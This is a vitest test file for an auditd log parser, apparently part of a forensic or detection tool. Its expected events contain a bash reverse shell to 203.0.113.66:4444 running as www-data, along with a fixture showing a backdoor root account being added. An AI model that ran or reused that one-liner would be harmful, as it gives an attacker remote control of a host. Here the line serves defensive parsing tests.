import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type AuditEvent, AuditEvents } from '../../src/parsers/audit-events.js';
import { argumentsOf, parseAuditRecord } from '../../src/parsers/audit-record.js';

function eventsOf(lines: readonly string[]): readonly AuditEvent[] {
  const events: AuditEvent[] = [];
  const parser = new AuditEvents((event) => events.push(event));
  for (const [index, line] of lines.entries()) {
    const record = parseAuditRecord(line);
    if (record !== undefined) parser.add(record, index + 1);
  }
  parser.end();
  return events;
}

const LINES = readFileSync(new URL('fixtures/audit.log', import.meta.url), 'utf8').split('\n');

describe('the audit log', () => {
  it('is put together to events, though their records lie among each other', () => {
    const started = eventsOf(LINES).filter(({ argv }) => argv !== undefined);
    // As `ausearch -i` of auditd 3.0.9 has them.
    expect(started.map(({ line, argv }) => [line, argv])).toEqual([
      [3, ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1']],
      [4, ['ls', '-la']],
      [12, ['./x', 'AAAABB B']],
    ]);
    expect(started.map(({ fields }) => [fields.get('exe'), fields.get('cwd'), fields.get('UID')])).toEqual([
      ['/usr/bin/bash', '/var/www/html', 'www-data'],
      ['/usr/bin/ls', undefined, 'root'],
      ['/tmp/.x y', undefined, undefined],
    ]);
    expect(started.map(({ atMs }) => new Date(atMs).toISOString())).toEqual([
      '2025-11-20T00:55:00.123Z',
      '2025-11-20T00:55:00.125Z',
      '2025-11-20T00:56:40.500Z',
    ]);
  });

  it('keeps what a program says apart from what the kernel vouches for', () => {
    const [added] = eventsOf(LINES).filter(({ types }) => types.includes('ADD_USER'));
    expect(Object.fromEntries(added?.fields ?? [])).toMatchObject({
      op: 'adding',
      acct: 'sysupd',
      uid: '0',
      auid: '1001',
      AUID: 'deploy',
      res: 'success',
    });
    const forged = `type=USER_CMD msg=audit(1.000:1): pid=1 uid=1000 msg='uid=0 cmd=6C73 exe="/bin/x"'`;
    const fields = parseAuditRecord(forged)?.fields;
    expect([fields?.get('uid'), fields?.get('cmd')]).toEqual(['1000', 'ls']);
  });

  it('gives back the arguments of any command, however the kernel wrote them', () => {
    const hex = (text: string) => Buffer.from(text, 'utf8').toString('hex').toUpperCase();
    const isPlain = (text: string) => /^[!#-~]+$/.test(text);
    const written = (word: string, index: number) =>
      isPlain(word) ? `a${index}="${word}"` : `a${index}=${hex(word)}`;
    const word = fc.oneof(
      fc.string({ minLength: 1, unit: 'binary' }),
      fc.string({ minLength: 1, unit: 'grapheme-ascii' }),
    );
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 8 }), (argv) => {
        const line = `type=EXECVE msg=audit(1700000000.001:9): argc=${argv.length} ${argv.map(written).join(' ')}`;
        const record = parseAuditRecord(line);
        expect(argumentsOf(record?.fields ?? new Map())).toEqual(argv);
      }),
      { numRuns: 50 },
    );
  });

  it('never throws, and keeps few events open, whatever stands in it', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.string(), fc.constantFrom(...LINES))), (lines) => {
        expect(eventsOf(lines).length).toBeLessThanOrEqual(lines.length);
      }),
    );
  });

  it('is bounded where a record claims a million arguments', () => {
    const record = parseAuditRecord(`type=EXECVE msg=audit(1.000:1): argc=1000000 a0="x"`);
    expect(argumentsOf(record?.fields ?? new Map()).length).toBeLessThanOrEqual(4096);
  });
});
